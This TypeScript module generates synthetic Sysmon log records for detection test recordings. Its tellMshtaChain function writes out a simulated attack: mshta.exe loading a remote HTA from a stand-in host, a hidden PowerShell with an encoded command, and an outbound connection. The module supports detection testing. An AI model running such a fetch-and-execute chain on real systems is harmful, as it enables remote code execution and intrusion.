import { formatMicros, MICROS_PER_SECOND, micros, parseMicros } from '../base/time';

/** A process that was told of; `n` numbers the processes of its host. */
export type ToldProcess = { readonly n: number; readonly image: string };

/** Fields of a record beside those that every record has, as Sysmon names them. */
export type ToldFields = Readonly<Record<string, string | number>>;

/** Tells what happened on one host, one record after the other. */
export type SysmonTeller = {
  /** A process starts; without a parent nobody is said to have started it. `more` replaces fields. */
  readonly starts: (
    image: string,
    commandLine: string,
    parent?: ToldProcess,
    more?: ToldFields,
  ) => ToldProcess;
  readonly writes: (by: ToldProcess, path: string) => void;
  /** A connection out to port 443 of an address. */
  readonly connects: (by: ToldProcess, ip: string) => void;
};

const STEP = MICROS_PER_SECOND / 50;

/**
 * A teller of Sysmon records as NXLog exports them, 20 ms apart from `from` (ISO 8601) on, each given to `write` as
 * one line of JSON. For recordings whose shape matters more than their story; the same calls give the same lines.
 */
export function createSysmonTeller(
  host: string,
  write: (line: string) => void,
  from = '2026-03-02T08:00:00Z',
): SysmonTeller {
  const start = parseMicros(from) ?? micros(0);
  let told = 0;
  let processes = 0;
  const record = (id: number, by: ToldProcess, more: ToldFields) => {
    const at = formatMicros(micros(start + told * STEP)).replace('T', ' ');
    write(
      JSON.stringify({
        EventTime: at.slice(0, 19),
        Hostname: host,
        EventID: id,
        SourceName: 'Microsoft-Windows-Sysmon',
        Channel: 'Microsoft-Windows-Sysmon/Operational',
        RecordNumber: ++told,
        UtcTime: at.slice(0, 23),
        ProcessGuid: guidOf(by.n),
        ProcessId: pidOf(by.n),
        Image: by.image,
        User: 'CORP\\anna',
        ...more,
      }),
    );
  };
  return {
    starts(image, commandLine, parent, more = {}) {
      const started = { n: ++processes, image };
      record(1, started, {
        CommandLine: commandLine,
        IntegrityLevel: 'Medium',
        ...(parent === undefined
          ? {}
          : {
              ParentProcessGuid: guidOf(parent.n),
              ParentProcessId: pidOf(parent.n),
              ParentImage: parent.image,
            }),
        ...more,
      });
      return started;
    },
    writes: (by, path) => record(11, by, { TargetFilename: path }),
    connects: (by, ip) =>
      record(3, by, {
        Protocol: 'tcp',
        Initiated: 'true',
        SourceIp: '10.0.0.5',
        DestinationIp: ip,
        DestinationPort: 443,
      }),
  };
}

/** GUID of the n-th process of a host, as its records write it. */
export function guidOf(n: number): string {
  return `{11111111-2222-3333-4444-${String(n).padStart(12, '0')}}`;
}

function pidOf(n: number): number {
  return 1000 + n * 4;
}

/**
 * mshta with remote content, from `site`, that starts PowerShell, which calls out: a complete AN1397. Answers with
 * PowerShell.
 */
export function tellMshtaChain(
  host: SysmonTeller,
  parent: ToldProcess,
  site = 'cdn.invoice-view.example',
): ToldProcess {
  const system32 = 'C:\\Windows\\System32';
  const mshta = host.starts(`${system32}\\mshta.exe`, `mshta.exe https://${site}/a.hta`, parent);
  const powershell = host.starts(
    `${system32}\\WindowsPowerShell\\v1.0\\powershell.exe`,
    'powershell.exe -w hidden -enc SQBFAFgA',
    mshta,
  );
  host.connects(powershell, '198.51.100.7');
  return powershell;
}
